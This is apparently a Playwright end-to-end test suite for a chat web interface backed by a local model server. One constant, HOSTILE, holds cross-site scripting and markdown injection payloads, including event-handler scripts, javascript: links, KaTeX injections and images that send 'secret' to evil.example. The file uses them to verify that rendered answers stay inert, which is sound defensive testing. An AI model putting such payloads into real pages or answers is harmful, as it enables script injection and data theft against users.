"""The page in a browser: what people do on it, and what may be done to them through it."""

from __future__ import annotations

import json
import re
import time
from pathlib import Path

import pytest
from playwright.sync_api import Locator, Page, Request, Route, expect

from tests.api.live import metric
from tests.e2e.page.answers import answer_with
from tests.e2e.page.conftest import OpenPage
from tests.support.processes.page import axe
from tests.support.processes.server import LiveServer

pytestmark = [pytest.mark.model, pytest.mark.slow]

SETTLE_S = 60.0
HOSTILE = """
<script>window.stolen = 1</script> <img src=x onerror="window.stolen = 1">
<iframe srcdoc="<script>parent.stolen = 1</script>"></iframe> <svg onload="window.stolen = 1"></svg>

![secret](https://evil.example/p.png?q=secret) ![x](//evil.example/q.png)

[click](javascript:window.stolen=1) [click](data:text/html,<script>stolen=1</script>)
[click](vbscript:x) [click](  java&#10;script:window.stolen=1) [here](/v1/models)

[fine](https://example.org/)

```html"><img src=x onerror=window.stolen=1>
<img src=x onerror="window.stolen = 1">
```

$\\href{javascript:window.stolen=1}{x}$ $\\includegraphics{https://evil.example/f.png}$
$\\htmlData{onclick=window.stolen=1}{x}$ $$\\def\\a{\\a\\a}\\a$$

| a |
|---|
| <b onclick="window.stolen=1">b</b> |
"""
EVERYTHING = """# A heading

Some *prose* with `code`, a [link](https://example.org), $E = mc^2$, but $5 and $10 are money.

\\[
\\int_0^\\infty e^{-x^2}\\,dx
\\]

```python
def f(x):
    return "text"  # a comment
```

| name | value |
|:-----|------:|
| one  | 1     |

- a list

> A quotation.
"""


def box(page: Page) -> Locator:
    return page.get_by_label("Your message")


def send(page: Page, text: str) -> None:
    box(page).fill(text)
    expect(page.get_by_role("button", name="Send")).to_be_enabled()
    box(page).press("Enter")


def answers(page: Page) -> Locator:
    return page.locator("article.assistant")


def wait_for_answer(page: Page, number: int = 1) -> Locator:
    """The last of so many answers, once it is complete."""
    expect(answers(page)).to_have_count(number)
    answer = answers(page).last
    expect(answer.get_by_role("button", name="Answer again")).to_be_visible()
    return answer


def limit(page: Page, **sampling: float) -> None:
    """Fills fields of the settings."""
    page.get_by_role("button", name="Settings").click()
    for label, value in sampling.items():
        page.get_by_label(label.replace("_", " "), exact=True).fill(str(value))
    page.keyboard.press("Escape")


def choose_model(page: Page, name: str) -> None:
    page.get_by_label("Model", exact=True).select_option(name)


def violations(page: Page, within: str = "html") -> list[str]:
    """What axe finds wrong in a part of the page, by rule and place."""
    page.evaluate(axe())
    found = page.evaluate("part => axe.run(part)", within)["violations"]
    return [f"{each['id']}: {node['html'][:200]}" for each in found for node in each["nodes"]]


def test_a_model_answers_and_the_conversation_is_there_after_a_reload(
    server: LiveServer, open_page: OpenPage
) -> None:
    page = open_page(server)
    limit(page, Most_tokens=6, Temperature=0)
    expect(page.get_by_role("heading", name="smollm2")).to_be_visible()
    expect(page.get_by_role("list", name="Examples").get_by_role("button")).to_have_count(3)
    send(page, "What is the capital of France?")
    answer = wait_for_answer(page)
    expect(answer).to_contain_text(re.compile(r"The capital of France"))
    expect(answer.locator(".speed")).to_contain_text("6 tokens")
    expect(answer).to_contain_text("has reached the most tokens")
    page.reload()
    expect(answers(page)).to_contain_text("The capital of France")
    entry = page.get_by_role("button", name="What is the capital of France?", exact=True)
    expect(entry).to_have_attribute("aria-current", "true")


def test_stopping_an_answer_frees_its_blocks(server: LiveServer, open_page: OpenPage) -> None:
    page = open_page(server)
    send(page, "Write a very long story about a lighthouse.")
    expect(answers(page).locator(".block")).not_to_have_count(0)
    assert metric(server, "rocmforge_num_requests_running", model_name="smollm2") == 1
    page.get_by_role("button", name="Stop").click()
    expect(answers(page)).to_contain_text("Stopped.")
    deadline = time.monotonic() + SETTLE_S
    while metric(server, "rocmforge_kv_cache_usage_perc", model_name="smollm2"):
        assert time.monotonic() < deadline
        time.sleep(0.05)
    assert metric(server, "rocmforge_num_requests_running", model_name="smollm2") == 0


def test_another_model_is_loaded_when_it_is_chosen(server: LiveServer, open_page: OpenPage) -> None:
    page = open_page(server)
    limit(page, Most_tokens=3)
    choose_model(page, "other")
    expect(page.get_by_text("other is loaded with the first message.")).to_be_visible()
    page.get_by_role("button", name="Load it now").click()
    expect(page.get_by_text("other is loaded with the first message.")).to_have_count(0)
    send(page, "hello")
    assert wait_for_answer(page).get_attribute("aria-label") == "Answer of other"
    choose_model(page, "smollm2")
    send(page, "hello")
    assert wait_for_answer(page, 2).get_attribute("aria-label") == "Answer of smollm2"


def test_how_far_loading_is_is_shown(server: LiveServer, open_page: OpenPage) -> None:
    page = open_page(server)

    def be_loading(route: Route) -> None:
        answer = route.fetch()
        models = answer.json()
        models["data"][0]["status"] |= {"value": "loading", "stage": "weights", "progress": 0.43}
        route.fulfill(response=answer, json=models)

    page.route("**/v1/models", be_loading)
    page.reload()
    bar = page.get_by_role("progressbar", name="smollm2 is being loaded: weights")
    expect(bar).to_have_attribute("value", "43")
    page.unroute("**/v1/models")
    expect(bar).to_have_count(0)


def test_defaults_of_the_model_are_shown_and_what_people_set_is_sent(
    server: LiveServer, open_page: OpenPage
) -> None:
    page = open_page(server)
    bodies = answer_with(page, "Hello.")
    page.get_by_role("button", name="Settings").click()
    expect(page.get_by_label("Temperature")).to_have_attribute(
        "placeholder", re.compile(r"^0?\.\d+$")
    )
    page.get_by_label("Top-p").fill("0.5")
    page.get_by_label("System message").fill("Be brief.")
    page.keyboard.press("Escape")
    send(page, "Hello")
    wait_for_answer(page)
    (body,) = bodies
    assert body["top_p"] == 0.5
    assert "temperature" not in body
    assert [message["role"] for message in body["messages"]] == ["system", "user"]


def test_old_versions_of_questions_and_answers_stay(
    server: LiveServer, open_page: OpenPage
) -> None:
    page = open_page(server)
    answer_with(page, "First answer.")
    send(page, "First question")
    wait_for_answer(page)
    answer_with(page, "Second answer.")
    page.get_by_role("button", name="Answer again").click()
    expect(answers(page)).to_contain_text("Second answer.")
    expect(answers(page)).to_contain_text("2 of 2")
    page.get_by_role("button", name="Earlier version").click()
    expect(answers(page)).to_contain_text("First answer.")
    bodies = answer_with(page, "Third answer.")
    page.get_by_role("button", name="Edit", exact=True).click()
    page.get_by_label("Edit your message").fill("Second question")
    page.keyboard.press("Enter")
    expect(answers(page)).to_contain_text("Third answer.")
    assert [message["content"] for message in bodies[0]["messages"]] == ["Second question"]
    page.get_by_role("button", name="Earlier version").click()
    expect(answers(page)).to_contain_text("First answer.")


def test_thoughts_are_folded_and_tool_calls_shown_and_answered(
    server: LiveServer, open_page: OpenPage
) -> None:
    page = open_page(server)
    function = {"name": "weather", "arguments": '{"city":"Paris"}'}
    call = {"index": 0, "id": "call-1", "type": "function", "function": function}
    answer_with(page, thoughts="They want to know the weather.", calls=[call])
    send(page, "Weather in Paris?")
    answer = wait_for_answer(page)
    thoughts = answer.get_by_text("They want to know the weather.")
    expect(thoughts).to_be_hidden()
    answer.get_by_text("Thoughts", exact=True).click()
    expect(thoughts).to_be_visible()
    expect(answer).to_contain_text('"city": "Paris"')
    bodies = answer_with(page, "It rains.")
    answer.get_by_label("Result").fill("rain")
    page.get_by_role("button", name="Return the result").click()
    expect(wait_for_answer(page, 2)).to_contain_text("It rains.")
    _, said, result = bodies[0]["messages"]
    assert said["tool_calls"][0]["function"] == function
    assert result == {"role": "tool", "content": "rain", "tool_call_id": "call-1"}


def test_hostile_markdown_is_inert(server: LiveServer, open_page: OpenPage) -> None:
    page = open_page(server)
    expect(page.get_by_role("heading", name="smollm2")).to_be_visible()
    asked: list[Request] = []
    page.on("request", lambda request: asked.append(request))
    answer_with(page, HOSTILE)
    send(page, "Be evil")
    answer = wait_for_answer(page)
    for link in answer.get_by_role("link").all():
        link.dispatch_event("mouseover")
        assert re.match("https?://", link.get_attribute("href") or "")
        assert "noopener" in (link.get_attribute("rel") or "")
    expect(answer.get_by_role("link", name="fine")).to_have_count(1)
    assert answer.locator("img, iframe, script, object, form, style, link").count() == 0
    every = "e => [...e.querySelectorAll('*')].flatMap(x => [...x.attributes].map(a => a.name))"
    names = answer.evaluate(every)
    assert [name for name in names if name.startswith("on")] == []
    assert page.evaluate("window.stolen") is None
    assert [each.url for each in asked if not each.url.startswith(server.url)] == []


def test_an_answer_of_200_kb_leaves_the_page_usable(
    server: LiveServer, open_page: OpenPage
) -> None:
    page = open_page(server)
    words = "has **bold** words and `code` in it, " * 10
    text = "\n\n".join(f"Paragraph {i} {words}\n\n- a list" for i in range(520))
    assert len(text) > 200_000
    empty_s = seconds_to_write(page)
    answer_with(page, text)
    send(page, "Much")
    # By classes: to look for roles among so many elements takes long.
    expect(page.locator("article.assistant .speed")).to_be_visible()
    expect(page.locator("article.assistant .block").last).to_be_in_viewport()
    assert seconds_to_write(page) < 10 + 10 * empty_s


def seconds_to_write(page: Page) -> float:
    """How long it takes to write a word into the box, which is empty again then."""
    since = time.monotonic()
    box(page).press_sequentially("hello")
    expect(box(page)).to_have_value("hello")
    taken_s = time.monotonic() - since
    box(page).fill("")
    return taken_s


def test_only_what_has_changed_of_an_answer_is_drawn_again(
    server: LiveServer, open_page: OpenPage
) -> None:
    page = open_page(server)
    kept = page.evaluate("""async () => {
        const app = document.querySelector("script[type=module]").src;
        const { renderMarkdown } = await import(new URL("text/markdown.js", app));
        const root = document.createElement("div");
        renderMarkdown(root, "one\\n\\ntwo", false);
        const [first, second] = root.children;
        renderMarkdown(root, "one\\n\\ntwo three", false);
        return [root.children[0] === first, root.children[1] === second, root.textContent];
    }""")
    assert kept == [True, False, "one\ntwo three\n"]


def test_it_is_used_with_the_keyboard_alone(server: LiveServer, open_page: OpenPage) -> None:
    page = open_page(server)
    expect(box(page)).to_be_focused()
    page.keyboard.type("Tell me a story of a thousand words.")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("And more.")
    expect(page.get_by_role("button", name="Send")).to_be_enabled()
    page.keyboard.press("Enter")
    expect(page.locator("article.user p")).to_have_text(re.compile(r"words\.\nAnd more\."))
    expect(answers(page).locator(".block")).not_to_have_count(0)
    page.keyboard.press("Escape")
    expect(answers(page)).to_contain_text("Stopped.")
    expect(box(page)).to_be_focused()
    settings = page.get_by_role("button", name="Settings")
    for _ in range(40):
        if settings.evaluate("e => e === document.activeElement"):
            break
        page.keyboard.press("Shift+Tab")
    page.keyboard.press("Enter")
    expect(page.get_by_role("dialog")).to_be_visible()
    page.keyboard.press("Escape")
    expect(page.get_by_role("dialog")).to_have_count(0)
    expect(settings).to_be_focused()


def test_on_a_phone_nothing_is_wider_than_the_screen(
    server: LiveServer, open_page: OpenPage
) -> None:
    page = open_page(server, width=360, height=700)
    answer_with(page, EVERYTHING + "\n\n`" + "x" * 400 + "`\n\n$$" + "x+" * 200 + "y$$")
    entry = page.get_by_role("button", name="Show everything", exact=True)
    send(page, "Show everything")
    wait_for_answer(page)
    wide = "[document.documentElement, document.querySelector('.scrolled')].map(e => e.scrollWidth)"
    assert max(page.evaluate(wide)) <= 360
    expect(entry).to_be_hidden()
    page.get_by_role("button", name="Conversations").click()
    expect(entry).to_be_visible()
    page.get_by_role("button", name="New chat").click()
    expect(entry).to_be_hidden()
    expect(page.get_by_role("list", name="Examples")).to_be_visible()


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_axe_finds_nothing_wrong(server: LiveServer, open_page: OpenPage, theme: str) -> None:
    page = open_page(server, theme=theme)
    expect(page.get_by_role("list", name="Examples")).to_be_visible()
    assert violations(page, "main") == []
    function = {"name": "weather", "arguments": "{}"}
    call = {"index": 0, "id": "call-1", "type": "function", "function": function}
    answer_with(page, EVERYTHING, thoughts="Hm.", calls=[call])
    page.get_by_role("button", name="What the server does").click()
    send(page, "Show everything")
    wait_for_answer(page).get_by_text("Thoughts", exact=True).click()
    page.get_by_role("button", name="Answer again").click()
    expect(wait_for_answer(page)).to_contain_text("2 of 2")
    assert violations(page) == []
    page.get_by_role("button", name="Settings").click()
    page.get_by_role("dialog").get_by_text("Tools").click()
    assert violations(page, "dialog") == []


def test_a_conversation_that_is_deleted_while_it_is_answered_stays_away(
    server: LiveServer, open_page: OpenPage
) -> None:
    page = open_page(server)
    page.on("dialog", lambda dialog: dialog.accept())
    send(page, "Tell me a long story.")
    expect(answers(page).locator(".block")).not_to_have_count(0)
    page.get_by_role("button", name="Delete: Tell me a long story.").click()
    expect(page.get_by_text("kept in this browser only")).to_be_visible()
    expect(page.get_by_role("list", name="Examples")).to_be_visible()
    page.reload()
    expect(page.get_by_text("kept in this browser only")).to_be_visible()


def test_what_another_tab_has_written_is_not_written_over(
    server: LiveServer, open_page: OpenPage
) -> None:
    page = open_page(server)
    answer_with(page, "First answer.")
    send(page, "First question")
    wait_for_answer(page)
    other = page.context.new_page()
    other.goto(page.url)
    expect(answers(other)).to_have_count(1)
    answer_with(other, "Second answer.")
    send(other, "Second question")
    wait_for_answer(other, 2)
    expect(answers(page)).to_have_count(2)
    answer_with(page, "Third answer.")
    send(page, "Third question")
    wait_for_answer(page, 3)
    other.reload()
    expect(answers(other)).to_have_count(3)


def test_the_switch_of_colours_is_remembered(server: LiveServer, open_page: OpenPage) -> None:
    page = open_page(server, theme="light")
    ground = "getComputedStyle(document.body).backgroundColor"
    light = page.evaluate(ground)
    for name in ("system", "light"):
        page.get_by_role("button", name=f"Colours: {name}").click()
    assert page.evaluate(ground) != light
    page.reload()
    expect(page.get_by_role("button", name="Colours: dark")).to_be_visible()
    assert page.evaluate(ground) != light


def test_code_is_copied_as_it_is(server: LiveServer, open_page: OpenPage) -> None:
    page = open_page(server)
    answer_with(page, EVERYTHING)
    send(page, "Show everything")
    wait_for_answer(page)
    expect(page.locator(".hljs-keyword").first).to_be_visible()
    page.get_by_role("button", name="Copy this code: python").click()
    expect(page.get_by_text("Copied")).to_be_visible()
    page.context.grant_permissions(["clipboard-read"])
    copied = page.evaluate("navigator.clipboard.readText()")
    assert copied == 'def f(x):\n    return "text"  # a comment\n'


def test_conversations_are_exported_and_imported(
    server: LiveServer, open_page: OpenPage, tmp_path: Path
) -> None:
    page = open_page(server)
    answer_with(page, "The answer.")
    send(page, "The question")
    wait_for_answer(page)
    with page.expect_download() as download:
        page.get_by_role("button", name="Export").click()
    download.value.save_as(tmp_path / "export.json")
    other = open_page(server)
    files = other.locator("input[type=file]")
    files.set_input_files(tmp_path / "export.json")
    other.get_by_role("button", name="The question", exact=True).click()
    expect(answers(other)).to_contain_text("The answer.")
    other.on("dialog", lambda dialog: dialog.accept())
    other.get_by_role("button", name="Delete: The question").click()
    expect(other.get_by_text("kept in this browser only")).to_be_visible()
    (tmp_path / "wrong.json").write_text(json.dumps({"format": "other"}))
    files.set_input_files(tmp_path / "wrong.json")
    expect(other.get_by_role("alert")).to_contain_text("holds no conversations")
